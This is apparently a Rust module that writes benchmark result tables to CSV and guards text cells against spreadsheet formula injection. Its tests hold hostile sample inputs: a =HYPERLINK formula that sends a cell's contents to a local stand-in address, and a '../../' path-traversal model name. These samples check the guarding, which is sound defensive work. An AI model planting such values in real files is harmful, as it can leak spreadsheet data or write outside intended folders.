//! One row per cell with every number of METRICS: plain, in base units, empty where nothing was measured.

use super::{column::Column, sorted};
use crate::{
    format,
    metric::{METRICS, Metric},
    state::{Cell, RunState},
};

/// The table with its head; lines end in CR LF (RFC 4180).
pub fn render(state: &RunState) -> String {
    let rows = sorted(state).into_iter().map(|cell| row(state, cell));
    let lines: Vec<String> = std::iter::once(head()).chain(rows).map(|cells| cells.join(",")).collect();
    lines.join("\r\n") + "\r\n"
}

/// A table as it is shown, number for number; "—" becomes empty, as everywhere in CSV. What was shown is no foreign text
/// but what begins like a formula is guarded all the same, unless it is a number.
pub fn shown(state: &RunState, columns: &[Column], cells: &[&Cell]) -> String {
    let load = state.plan.load();
    let head = columns.iter().map(|column| text(&column.head(load))).collect();
    let row = |cell: &&Cell| columns.iter().map(|column| shown_cell(&column.text(state, cell))).collect();
    let lines: Vec<Vec<String>> = std::iter::once(head).chain(cells.iter().map(row)).collect();
    lines.iter().map(|cells| cells.join(",")).collect::<Vec<_>>().join("\r\n") + "\r\n"
}

fn shown_cell(value: &str) -> String {
    match value {
        format::MISSING => String::new(),
        number if number.parse::<f64>().is_ok_and(f64::is_finite) => number.to_owned(),
        words => text(words),
    }
}

fn head() -> Vec<String> {
    let mut cells: Vec<String> =
        ["run", "title", "phase", "context_tokens", "requests_at_once", "status"].map(ToOwned::to_owned).into();
    for metric in METRICS {
        cells.push(metric.csv.to_owned());
        if metric.has_interval() {
            cells.push(format!("{}_half_width_95", metric.csv));
        }
        if metric.has_n() {
            cells.push(format!("{}_n", metric.csv));
        }
    }
    cells.extend(["token_source", "stamps", "findings"].map(ToOwned::to_owned));
    cells
}

fn row(state: &RunState, cell: &Cell) -> Vec<String> {
    let id = cell.id;
    let mut cells = vec![
        text(state.id.as_str()),
        text(&state.title()),
        text(state.plan.load().phase_label(id.phase)),
        id.context.tokens().to_string(),
        id.concurrency.to_string(),
        text(&cell.status_label()),
    ];
    for metric in METRICS {
        numbers(state, cell, metric, &mut cells);
    }
    let result = cell.result();
    let source = result.and_then(|r| r.stats.token_source).map_or("", |source| source.label());
    let stamps = result.and_then(|r| r.stats.stamps).map_or("", |stamps| stamps.label());
    let findings = result.map(|r| r.findings.as_slice()).unwrap_or_default();
    let codes: Vec<&str> = findings.iter().map(|finding| finding.code.as_str()).collect();
    cells.extend([text(source), text(stamps), text(&codes.join(" "))]);
    cells
}

fn numbers(state: &RunState, cell: &Cell, metric: &Metric, cells: &mut Vec<String>) {
    let result = cell.result();
    cells.push(format::plain(result.and_then(metric.get)));
    if metric.has_interval() {
        cells.push(format::plain(result.and_then(|r| metric.interval(r)).map(|interval| interval.half_width)));
    }
    if metric.has_n() {
        let n = result.and_then(|r| metric.n(r, state.origin));
        cells.push(n.map_or_else(String::new, |n| n.to_string()));
    }
}

/// A text cell: an apostrophe before what a spreadsheet would run as a formula (OWASP, "CSV injection"), also where it
/// takes semicolons, tabs or lines for the ends of cells; quotes where RFC 4180 wants them, or such a spreadsheet.
pub(crate) fn text(value: &str) -> String {
    let mut guarded = if value.starts_with(['\t', '\r']) { "'".to_owned() } else { String::new() };
    let mut begins = true;
    for c in value.chars() {
        if begins && matches!(c, '=' | '+' | '-' | '@') {
            guarded.push('\'');
        }
        guarded.push(c);
        begins = matches!(c, ';' | '\t' | '\n' | '\r');
    }
    if guarded.contains(['"', ',', ';', '\t', '\n', '\r']) {
        guarded = format!("\"{}\"", guarded.replace('"', "\"\""));
    }
    guarded
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{plan::PlanDraft, sample};

    #[test]
    fn texts_are_guarded_and_quoted() {
        let check = |value: &str, wanted: &str| assert_eq!(text(value), wanted);
        check("Valid", "Valid");
        check("=1+1", "'=1+1");
        check("@x", "'@x");
        check("+1", "'+1");
        check("-1", "'-1");
        check("\tx", "\"'\tx\"");
        check("a;=1+1", "\"a;'=1+1\"");
        check("a\t@x;-y\n+z", "\"a\t'@x;'-y\n'+z\"");
        check("a; b", "\"a; b\"");
        check("llama-3=x", "llama-3=x");
        check("\rx", "\"'\rx\"");
        check("a,\"b\"", "\"a,\"\"b\"\"\"");
        check("", "");
    }

    #[test]
    fn a_shown_table_keeps_its_texts_and_numbers_stay_numbers() {
        let check = |value: &str, wanted: &str| assert_eq!(shown_cell(value), wanted);
        check("—", "");
        check("-3.5", "-3.5");
        check("4,201.1", "\"4,201.1\"");
        check("-0.04 ms", "'-0.04 ms");
        check("=1+1", "'=1+1");
        check("Skipped: not enough room", "Skipped: not enough room");
        let state = sample::reference();
        let cells: Vec<&Cell> = state.cells.iter().rev().take(1).collect();
        let columns = ["context", "total_tok_s", "ttft", "ttft.n"].into_iter().filter_map(Column::by_key);
        let file = shown(&state, &columns.collect::<Vec<_>>(), &cells);
        assert_eq!(file, "Context,Total tok/s,TTFT,\"TTFT, n\"\r\n1019K,\"1,179.4\",\"94,031 ms\",\r\n");
    }

    /// What a server calls its model may be a formula, or a path out of the folder.
    #[test]
    fn a_hostile_name_is_text_in_the_file_and_no_path() {
        let mut state = sample::reference();
        let check = |state: &RunState, title: &str, stem: &str| {
            let labels = crate::label::Labels::default();
            let file = render(state);
            assert!(file.lines().nth(1).is_some_and(|row| row.starts_with(&format!("reference,{title},"))), "{file}");
            assert_eq!(crate::export::file_stem(state, &labels), stem);
        };
        let mut named = |name: &str| {
            let draft = PlanDraft { name: name.to_owned(), ..PlanDraft::from(state.plan.clone()) };
            state.plan = draft.try_into().unwrap();
            state.clone()
        };
        check(
            &named("=HYPERLINK(\"http://127.0.0.1:9/?x=\"&A1,\"ok\")"),
            "\"'=HYPERLINK(\"\"http://127.0.0.1:9/?x=\"\"&A1,\"\"ok\"\")\"",
            "speedmatrix-hyperlink-http-127-0-0-1-9-x-a1-ok-reference",
        );
        check(&named("../../org/model,\"x\""), "\"../../org/model,\"\"x\"\"\"", "speedmatrix-org-model-x-reference");
        check(&named("…"), "…", "speedmatrix-reference");
    }

    #[test]
    fn numbers_are_plain_and_missing_ones_are_empty() {
        let file = render(&sample::reference());
        let lines: Vec<&str> = file.split("\r\n").collect();
        assert_eq!(lines.len(), 75, "head, 73 rows, and the end of the last line");
        let width = head().len();
        for line in lines.iter().filter(|line| !line.is_empty()) {
            assert_eq!(line.split(',').count(), width, "{line}");
        }
        assert!(!file.contains("—") && !file.contains("NaN"));
        let row =
            "reference,DeepSeek-V4-Flash-DSpark on H200 NVL 141GB ×2,Prefill,1048576,1,Valid,6256,,,,164.864,,,,,1,";
        assert!(lines.iter().any(|line| line.starts_with(row)));
    }
}
